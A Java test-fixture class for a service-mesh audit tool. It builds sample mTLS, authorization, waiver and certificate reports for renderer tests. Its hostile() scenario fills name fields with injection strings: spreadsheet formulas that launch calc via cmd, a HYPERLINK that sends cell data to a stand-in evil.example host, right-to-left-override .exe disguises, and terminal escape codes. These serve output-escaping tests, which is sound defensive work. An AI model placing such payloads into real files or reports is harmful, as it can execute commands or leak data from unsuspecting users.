package org.meshaudit.reports;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.meshaudit.report.AuditReport;
import tools.jackson.databind.DeserializationFeature;
import tools.jackson.databind.ObjectMapper;
import tools.jackson.databind.json.JsonMapper;

/**
 * Fixed reports for the renderer tests. They are built as the JSON tree of an {@code audit.json} and read into the
 * model the way {@code meshaudit report --from} does, so additive changes to the model do not break them.
 */
public final class Scenarios {
    public static final String AS_OF = "2026-11-29T00:00:00Z";
    static final ObjectMapper MAPPER = JsonMapper.builder()
            .disable(DeserializationFeature.FAIL_ON_UNKNOWN_PROPERTIES).build();

    private Scenarios() {
    }

    /** A small incomplete run exercising every status, severity and section. */
    public static AuditReport demo() {
        return MAPPER.convertValue(demoTree(), AuditReport.class);
    }

    /** The demo with attacker-controlled text in every place a name can appear. */
    @SuppressWarnings("unchecked")
    public static AuditReport hostile() {
        Map<String, Object> t = demoTree();
        List<Object> results = (List<Object>) t.get("results");
        List<Object> workloads = (List<Object>) ((Map<String, Object>) t.get("posture")).get("workloads");
        List<Object> certs = (List<Object>) t.get("certificates");
        List<Object> issues = (List<Object>) ((Map<String, Object>) t.get("collection")).get("issues");
        int i = 0;
        for (String n : hostileNames()) {
            i++;
            Map<String, Object> s = subject("apps/v1", "Deployment", n, n, n.length() < 20 ? n : "80");
            results.add(result(String.format("h%015d", i), "MTLS-002", "FAIL", "high", s, "observed " + n,
                    map("name", n, "list", List.of(n, n)), List.of("pci:4.2.1", n), n));
            results.add(result(String.format("p%015d", i), "MTLS-002", "PASS", "high", s, n, map("name", n),
                    List.of("pci:4.2.1"), null));
            workloads.add(workload("Deployment", n, n, n, n, List.of(port(n.length() < 10 ? n : "80", true, n, true, "WORKLOAD", n, n))));
            certs.add(cert(n, n, "2026-01-01T00:00:00Z", "2027-01-01T00:00:00Z", n, 256, n, List.of(n)));
            issues.add(map("source", n, "kind", "parse-error", "message", n));
        }
        Map<String, Object> m = (Map<String, Object>) t.get("metadata");
        m.put("source", "manifests: =HYPERLINK(\"http://evil\")\u202Egnp.exe");
        m.put("incompleteReasons", List.of("=1+1 issue\u0007"));
        return MAPPER.convertValue(t, AuditReport.class);
    }

    /**
     * The demo as a run with a waivers file and a history: an active waiver (two WAIVED results), an expired one and a
     * not-yet-valid one (their FAIL results stand), a stale one (matches nothing), and a trend of three runs.
     */
    public static AuditReport lifecycle() {
        return MAPPER.convertValue(lifecycleTree(), AuditReport.class);
    }

    /** Two clusters merged into one fleet report ({@code meshaudit merge}): the demo as prod-eu, the lifecycle run as prod-us. */
    public static AuditReport fleet() {
        return org.meshaudit.lifecycle.ReportMerge.merge(List.of(
                new org.meshaudit.lifecycle.ReportMerge.Input(complete(demoTree()), "prod-eu", "sha256:" + "11".repeat(32)),
                new org.meshaudit.lifecycle.ReportMerge.Input(complete(lifecycleTree()), "prod-us",
                        "sha256:" + "22".repeat(32))));
    }

    /** The tree with every scope list a scan writes (the demo leaves some out), read into the model. */
    @SuppressWarnings("unchecked")
    private static AuditReport complete(Map<String, Object> tree) {
        for (Object f : (List<Object>) tree.get("frameworks")) {
            Map<String, Object> scope = (Map<String, Object>) ((Map<String, Object>) f).get("scope");
            scope.putIfAbsent("workloads", List.of());
            scope.putIfAbsent("unmeshedWorkloads", List.of());
            String prefix = "zero-trust".equals(((Map<String, Object>) f).get("id")) ? "zt" : "pci";
            for (Object q : (List<Object>) ((Map<String, Object>) f).get("requirements")) {
                Map<String, Object> req = (Map<String, Object>) q;
                List<String> ids = new ArrayList<>();
                for (Object o : (List<Object>) tree.get("results")) {
                    Map<String, Object> r = (Map<String, Object>) o;
                    if (!"NOT_APPLICABLE".equals(r.get("status"))
                            && ((List<String>) r.get("controls")).contains(prefix + ":" + req.get("id"))) {
                        ids.add((String) r.get("id"));
                    }
                }
                req.putIfAbsent("resultIds", ids);
            }
        }
        return MAPPER.convertValue(tree, AuditReport.class);
    }

    @SuppressWarnings("unchecked")
    static Map<String, Object> lifecycleTree() {
        Map<String, Object> t = demoTree();
        List<Object> results = (List<Object>) t.get("results");
        Map<String, Object> w14 = map("id", "W-2026-014", "owner", "storefront-team", "expires", "2027-03-31",
                "justification", "storefront web is fronted by the gateway's external authorization until STORE-31 lands",
                "ticket", "STORE-31", "approvedBy", "ciso");
        for (Object o : results) {
            Map<String, Object> r = (Map<String, Object>) o;
            if ("WAIVED".equals(r.get("status"))) {
                r.put("waiver", w14);
            }
        }
        Map<String, Object> extra = result("a00000000000000b", "MTLS-002", "WAIVED", "high",
                subject("apps/v1", "Deployment", "storefront", "web", "8080"),
                "port 8080 is PERMISSIVE, set at WORKLOAD level by PeerAuthentication/storefront/web",
                map("port", 8080, "mode", "PERMISSIVE"), List.of("zt:800-207/T2", "pci:4.2.1", "pci:1.2.6", "nist:SC-8(1)"),
                "Set the workload PeerAuthentication to STRICT.");
        extra.put("waiver", w14);
        results.add(extra);
        t.put("waivers", List.of(
                map("id", "W-2026-014", "status", "active", "rules", List.of("AUTHZ-001", "MTLS-002"),
                        "subject", "namespace=storefront name=web", "owner", "storefront-team", "approvedBy", "ciso",
                        "ticket", "STORE-31", "justification", w14.get("justification"), "created", "2026-01-15",
                        "expires", "2027-03-31", "resultIds", List.of("a00000000000000a", "a00000000000000b"),
                        "source", "waivers.yaml:2"),
                map("id", "W-2025-003", "status", "expired", "rules", List.of("NET-001"),
                        "subject", "kind=Namespace name=analytics", "owner", "platform",
                        "justification", "analytics namespace being decommissioned", "expires", "2026-06-30",
                        "resultIds", List.of("a000000000000004"),
                        "note", "expired before the as-of time; its results stay FAIL", "source", "waivers.yaml:13"),
                map("id", "W-2026-020", "status", "stale", "rules", List.of("MTLS-002"),
                        "subject", "namespace=storefront labels=app=frontend", "owner", "web", "justification", "temporary",
                        "expires", "2027-01-31", "resultIds", List.of(),
                        "note", "matches no FAIL result: remove it or fix its selector", "source", "waivers.yaml:20"),
                map("id", "W-2027-001", "status", "not-yet-valid", "rules", List.of("AUTHZ-001"),
                        "subject", "namespace=checkout", "owner", "payments-platform", "ticket", "PAY-901",
                        "justification", "checkout moves behind the mesh gateway in Q1", "created", "2027-01-01",
                        "expires", "2027-06-30", "resultIds", List.of("a000000000000003"), "source", "waivers.yaml:26")));
        Map<String, Object> summary = (Map<String, Object>) t.get("summary");
        summary.put("results", results.size());
        ((Map<String, Object>) summary.get("byStatus")).put("WAIVED", 2);
        summary.put("waivers", map("active", 1, "expired", 1, "not-yet-valid", 1, "stale", 1));
        Map<String, Object> options = (Map<String, Object>) ((Map<String, Object>) t.get("metadata")).get("options");
        options.put("waivers", "waivers.yaml");
        options.put("history", "history");
        t.put("trend", List.of(
                trend("2026-11-01T00:00:00Z", "run-aaaaaaaaaaaa", 0.2, 1, 5, 2, 2, 1, 1, 0, 0, 0, false),
                trend("2026-11-15T00:00:00Z", "run-bbbbbbbbbbbb", 0.4, 2, 5, 1, 1, 2, 1, 1, 1, 1, false),
                trend(AS_OF, "run-0123456789ab", 0.4, 2, 5, 1, 1, 1, 1, 1, 2, 1, false)));
        return t;
    }

    static Map<String, Object> trend(String asOf, String runId, double share, int enforced, int ports, int critical,
                                     int high, int medium, int low, int info, int waived, int errors, boolean complete) {
        Map<String, Object> open = new LinkedHashMap<>();
        open.put("critical", critical);
        open.put("high", high);
        open.put("medium", medium);
        open.put("low", low);
        open.put("info", info);
        return map("asOf", asOf, "runId", runId, "mtlsEnforcedShare", share, "mtlsEnforcedPorts", enforced,
                "workloadPorts", ports, "openFindings", open, "waived", waived, "errors", errors,
                "earliestCertificateExpiry", "2026-11-01T00:00:00Z", "complete", complete);
    }

    public static List<String> hostileNames() {
        return List.of(
                "=cmd|' /C calc'!A0",
                "+1+2",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "\tTAB=1+1",
                "\r=1+1",
                "good.example\u0000.evil",
                "invoice\u202Efdp.exe",
                "\u2067isolate\u2069 and \u200Bzero\u200Dwidth\uFEFF",
                "שלום-עולם مرحبا",
                "控制平面 🔐 emoji",
                "bell\u0007 esc\u001B[31m red \u009B csi",
                "x".repeat(2500),
                "a-very-long-unbroken-name-" + "0123456789".repeat(25));
    }

    // ------------------------------------------------------------------ the tree

    static Map<String, Object> demoTree() {
        List<String> mtls = List.of("zt:800-207/T2", "pci:4.2.1", "pci:1.2.6", "nist:SC-8(1)");
        List<String> authz = List.of("zt:800-207/T3", "pci:7.2.1", "nist:AC-3");
        List<Object> results = new ArrayList<>(List.of(
                result("a000000000000001", "MTLS-001", "FAIL", "critical", subject("v1", "Namespace", "", "payments", null),
                        "Istio namespace-level mTLS mode is DISABLE (decided by PeerAuthentication/payments/default)",
                        map("mode", "DISABLE", "decidedBy", List.of("PeerAuthentication/payments/default")), mtls,
                        "Set the namespace PeerAuthentication to STRICT."),
                result("a000000000000002", "MTLS-002", "FAIL", "high", subject("apps/v1", "Deployment", "checkout", "ledger", "8080"),
                        "port 8080 is PERMISSIVE, set at PORT level by PeerAuthentication/checkout/ledger-legacy",
                        map("port", 8080, "mode", "PERMISSIVE", "namespaceMode", "STRICT"), mtls,
                        "Remove the port-level override or set it to STRICT."),
                result("a000000000000003", "AUTHZ-001", "FAIL", "medium", subject("apps/v1", "Deployment", "checkout", "payments", null),
                        "no authorization policy selects this istio workload", map("dataplane", "istio", "policies", List.of()), authz,
                        "Add an allow-nothing baseline and explicit ALLOW policies keyed on principals."),
                result("a000000000000004", "NET-001", "FAIL", "low", subject("v1", "Namespace", "", "analytics", null),
                        "no default-deny NetworkPolicy for egress", map("policies", List.of("allow-analytics-ingress")),
                        List.of("pci:1.3.1"), "Add a default-deny egress NetworkPolicy."),
                result("a000000000000005", "CERT-002", "FAIL", "info", subject("v1", "Secret", "istio-system", "cacerts", null),
                        "RSA 2048 CA key is deprecated after 2030", map("keyBits", 2048), List.of("zt:800-207/T2"),
                        "Plan a CA key rollover to RSA 3072 or ECDSA P-256."),
                result("a000000000000006", "MTLS-004", "ERROR", "high", subject("apps/v1", "Deployment", "legacy", "billing", null),
                        "not evaluated: istio-sidecar-injector ConfigMap not in the input",
                        map("missing", "ConfigMap/istio-system/istio-sidecar-injector"), List.of("zt:800-207/T1", "pci:1.2.6"), null),
                result("a000000000000007", "MTLS-001", "PASS", "critical", subject("v1", "Namespace", "", "checkout", null),
                        "Namespace-level mTLS is STRICT", map("mode", "STRICT"), mtls, null),
                result("a000000000000008", "MTLS-002", "PASS", "high", subject("apps/v1", "Deployment", "checkout", "payments", "9000"),
                        "No workload or port override relaxes mTLS", map("port", 9000, "mode", "STRICT"), mtls, null),
                result("a000000000000009", "AUTHZ-001", "NOT_APPLICABLE", "medium", subject("apps/v1", "Deployment", "legacy", "sftp-bridge", null),
                        "not in a mesh", map(), authz, null),
                result("a00000000000000a", "AUTHZ-001", "WAIVED", "medium", subject("apps/v1", "Deployment", "storefront", "web", null),
                        "no authorization policy selects this istio workload", map("dataplane", "istio"), authz, null)));

        Map<String, Object> scope = map("selector", "all non-system namespaces",
                "namespaces", List.of("analytics", "checkout", "legacy", "payments", "storefront"),
                "unmeshedWorkloads", List.of("Deployment/legacy/billing"));
        Map<String, Object> pciScope = map("selector", "meshaudit.org/pci=cde", "namespaces", List.of("checkout", "payments"));
        List<Object> frameworks = List.of(
                map("id", "zero-trust", "version", "NIST SP 800-207 (2020) and companions", "title", "Zero trust architecture",
                        "scope", scope, "requirements", List.of(
                                req("800-207/T1", "All data sources and computing services are resources", "ERROR", List.of("MTLS-004"), map("ERROR", 1), "automated", null),
                                req("800-207/T2", "All communication is secured regardless of network location", "FAIL",
                                        List.of("CERT-002", "MTLS-001", "MTLS-002"), map("FAIL", 3, "PASS", 2), "automated", null),
                                req("800-207/T3", "Access to resources is granted per session", "FAIL", List.of("AUTHZ-001"),
                                        map("FAIL", 1, "NOT_APPLICABLE", 1, "WAIVED", 1), "automated", null))),
                map("id", "pci-dss", "version", "4.0.1", "title", "PCI DSS", "scope", pciScope, "requirements", List.of(
                        req("1.2.3", "An accurate network diagram is maintained", "MANUAL", List.of(), map(), "manual",
                                "Assessor reviews the diagram against the namespaces and mesh policies listed here."),
                        req("1.2.6", "Security features are defined for insecure services", "FAIL",
                                List.of("MTLS-001", "MTLS-002", "MTLS-004"), map("ERROR", 1, "FAIL", 2, "PASS", 2), "automated", null),
                        req("1.3.1", "Inbound traffic to the CDE is restricted", "FAIL", List.of("NET-001"), map("FAIL", 1), "automated", null),
                        req("4.2.1", "Strong cryptography protects PAN in transit", "FAIL", List.of("MTLS-001", "MTLS-002"),
                                map("FAIL", 2, "PASS", 2), "automated", null),
                        req("7.2.1", "An access control model is defined", "FAIL", List.of("AUTHZ-001"),
                                map("FAIL", 1, "NOT_APPLICABLE", 1, "WAIVED", 1), "automated", null),
                        req("12.5.2", "PCI DSS scope is documented and confirmed", "NOT_APPLICABLE", List.of(), map(), "not-applicable",
                                "Organisational requirement outside what a cluster audit can evidence."))));

        List<Object> workloads = new ArrayList<>(List.of(
                workload("Deployment", "checkout", "ledger", "istio", "IST-DP-1: namespace label istio-injection=enabled",
                        List.of(port("8080", true, "PERMISSIVE", false, "WORKLOAD", null, null), port("*", true, "STRICT", true, "NAMESPACE", null, null))),
                workload("Deployment", "checkout", "payments", "istio", "IST-DP-0: istio-proxy container present",
                        List.of(port("9000", true, "STRICT", true, "NAMESPACE", null, null),
                                port("9100", false, "STRICT", true, "NAMESPACE", "traffic.sidecar.istio.io/excludeInboundPorts=9100 (IST-BY-1)", null))),
                workload("Deployment", "legacy", "billing", "none", "no injection label",
                        List.of(port("8443", false, "none", false, "CLUSTER", null, "istio-sidecar-injector ConfigMap not in the input"))),
                workload("StatefulSet", "analytics", "events-db", "linkerd", "LKD-DP-1: linkerd-proxy present", List.of())));

        Map<String, Object> byStatus = new LinkedHashMap<>();
        for (String s : List.of("PASS", "FAIL", "WAIVED", "NOT_APPLICABLE", "ERROR", "MANUAL")) {
            byStatus.put(s, 0);
        }
        Map<String, Object> bySev = new LinkedHashMap<>();
        for (String s : List.of("critical", "high", "medium", "low", "info")) {
            bySev.put(s, 0);
        }
        for (Object o : results) {
            @SuppressWarnings("unchecked") Map<String, Object> r = (Map<String, Object>) o;
            byStatus.merge((String) r.get("status"), 1, (a, b) -> (Integer) a + (Integer) b);
            if ("FAIL".equals(r.get("status"))) {
                bySev.merge((String) r.get("severity"), 1, (a, b) -> (Integer) a + (Integer) b);
            }
        }
        Map<String, Object> tree = new LinkedHashMap<>();
        tree.put("apiVersion", AuditReport.API_VERSION);
        tree.put("kind", AuditReport.KIND);
        tree.put("metadata", map("runId", "run-0123456789ab", "asOf", AS_OF, "tool", "meshaudit", "toolVersion", "0.1.0",
                "source", "manifests: examples/scenario", "inputDigest", "sha256:" + "ab".repeat(32), "profile", "baseline",
                "frameworks", List.of("pci-dss", "zero-trust"),
                "packs", List.of(map("id", "zero-trust", "version", "0.1.0", "sha256", "sha256:" + "cd".repeat(32),
                        "origin", "classpath:META-INF/meshaudit/packs/zero-trust", "rules", 9)),
                "options", map("assumeMeshDefaults", false), "complete", false,
                "incompleteReasons", List.of("1 collection issue", "1 result could not be evaluated (ERROR)")));
        tree.put("summary", map("results", results.size(), "byStatus", byStatus, "failuresBySeverity", bySev,
                "workloads", 4, "meshedWorkloads", 3, "workloadPorts", 5, "mtlsEnforcedPorts", 2, "mtlsEnforcedShare", 0.4,
                "errorPorts", 1, "collectionIssues", 1));
        tree.put("frameworks", frameworks);
        tree.put("results", results);
        tree.put("posture", map("mesh", map("istio.rootNamespace", "istio-system", "istio.version", "1.27.1"), "workloads", workloads));
        tree.put("certificates", new ArrayList<>(List.of(
                cert("CN=istio-ca,O=cluster.local", "CN=istio-ca,O=cluster.local", "2016-11-29T00:00:00Z", "2026-11-01T00:00:00Z", "RSA", 2048, "SHA256WITHRSA", List.of()),
                cert("CN=ledger.checkout.svc", "CN=istio-ca,O=cluster.local", "2026-11-01T00:00:00Z", "2026-12-19T12:00:00Z", "EC", 256, "SHA256WITHECDSA",
                        List.of("spiffe://cluster.local/ns/checkout/sa/ledger", "ledger.checkout.svc")),
                cert("CN=payments-gw.example.com", "CN=Example Issuing CA", "2026-06-01T00:00:00Z", "2027-06-15T00:00:00Z", "EC", 384, "SHA384WITHECDSA",
                        List.of("payments-gw.example.com")),
                cert("CN=Example Root", "CN=Example Root", "2020-01-01T00:00:00Z", "2035-01-01T00:00:00Z", "RSA", 4096, "SHA384WITHRSA", List.of()))));
        tree.put("collection", map("kinds", map("apps/v1/Deployment", 3, "apps/v1/StatefulSet", 1, "v1/Namespace", 5,
                        "security.istio.io/v1/PeerAuthentication", 2),
                "issues", new ArrayList<>(List.of(map("source", "examples/scenario/60-legacy.yaml:12", "kind", "parse-error",
                        "message", "mapping values are not allowed here")))));
        return tree;
    }

    static Map<String, Object> subject(String apiVersion, String kind, String ns, String name, String port) {
        return map("apiVersion", apiVersion, "kind", kind, "namespace", ns, "name", name,
                "uid", "uid-" + Integer.toHexString((kind + ns + name).hashCode()), "port", port);
    }

    static Map<String, Object> result(String id, String rule, String status, String sev, Map<String, Object> subject,
                                      String message, Map<String, Object> evidence, List<String> controls, String remediation) {
        String title = switch (rule) {
            case "MTLS-001" -> "Namespace-level mTLS is STRICT";
            case "MTLS-002" -> "No workload or port override relaxes mTLS";
            case "MTLS-004" -> "Every in-scope workload is in a mesh";
            case "AUTHZ-001" -> "Every meshed workload is covered by an authorization policy";
            case "NET-001" -> "Every namespace has default-deny NetworkPolicies";
            case "CERT-002" -> "CA keys remain acceptable beyond 2030";
            default -> "Secure state of " + rule;
        };
        return map("id", id, "ruleId", rule, "ruleVersion", "1.0.0", "pack", "zero-trust", "title", title, "status", status,
                "severity", sev, "subject", subject, "message", message, "evidence", evidence, "controls", controls,
                "remediation", remediation);
    }

    static Map<String, Object> req(String id, String title, String status, List<String> rules, Map<String, Object> counts,
                                   String kind, String note) {
        return map("id", id, "title", title, "status", status, "ruleIds", rules, "counts", counts, "kind", kind, "note", note);
    }

    static Map<String, Object> workload(String kind, String ns, String name, String dataplane, String reason, List<Object> ports) {
        return map("apiVersion", "apps/v1", "kind", kind, "namespace", ns, "name", name,
                "uid", "uid-" + Integer.toHexString((ns + name).hashCode()), "dataplane", dataplane, "dataplaneSource", "observed",
                "dataplaneReason", reason, "serviceAccount", name, "inboundExclusions", List.of(), "outboundExclusions", List.of(),
                "notes", List.of(), "error", "none".equals(dataplane) ? "istio-sidecar-injector ConfigMap not in the input" : null,
                "ports", ports);
    }

    static Map<String, Object> port(String port, boolean captured, String mode, boolean required, String at, String note, String error) {
        return map("port", port, "protocol", "TCP", "inboundCaptured", captured, "captureNote", note, "serverMode", mode,
                "mtlsRequired", required, "decidedAt", at, "decidedBy", List.of("PeerAuthentication/checkout/default"),
                "shadowed", List.of(), "namespaceMode", "STRICT", "serviceTarget", true, "notes", List.of(), "error", error);
    }

    /** A certificate in the shape of {@code CertificateEntry} (as audit.json carries it). */
    static Map<String, Object> cert(String subject, String issuer, String nb, String na, String alg, int bits, String sig,
                                    List<String> sans) {
        return map("fingerprint", "sha256:" + String.format("%08x", subject.hashCode()) + "0".repeat(56), "subject", subject,
                "issuer", issuer, "serial", "01",
                "validity", map("notBefore", nb, "notAfter", na, "lifetime", "", "remaining", "", "state", "valid"),
                "key", map("algorithm", alg, "bits", bits, "strengthBits", bits >= 3072 || "EC".equals(alg) ? 128 : 112),
                "signature", map("algorithm", sig, "hash", sig.startsWith("SHA384") ? "SHA-384" : "SHA-256"),
                "sans", map("dns", sans, "ip", List.of(), "uri", List.of(), "email", List.of(), "spiffe", List.of(),
                        "other", 0, "truncated", 0),
                "keyUsage", List.of("digitalSignature"), "eku", List.of("serverAuth", "clientAuth"), "ca", subject.equals(issuer),
                "certClass", "private", "roles", List.of(subject.equals(issuer) ? "anchor" : "leaf"),
                "chain", map("status", "valid", "path", List.of(subject)),
                "sources", List.of(map("location", "Secret/istio-system/cacerts", "origin", "secret",
                        "namespace", "istio-system", "role", "chain", "format", "pem")));
    }

    static Map<String, Object> map(Object... kv) {
        Map<String, Object> m = new TreeMap<>();
        for (int i = 0; i < kv.length; i += 2) {
            if (kv[i + 1] != null) {
                m.put((String) kv[i], kv[i + 1]);
            }
        }
        return m;
    }
}
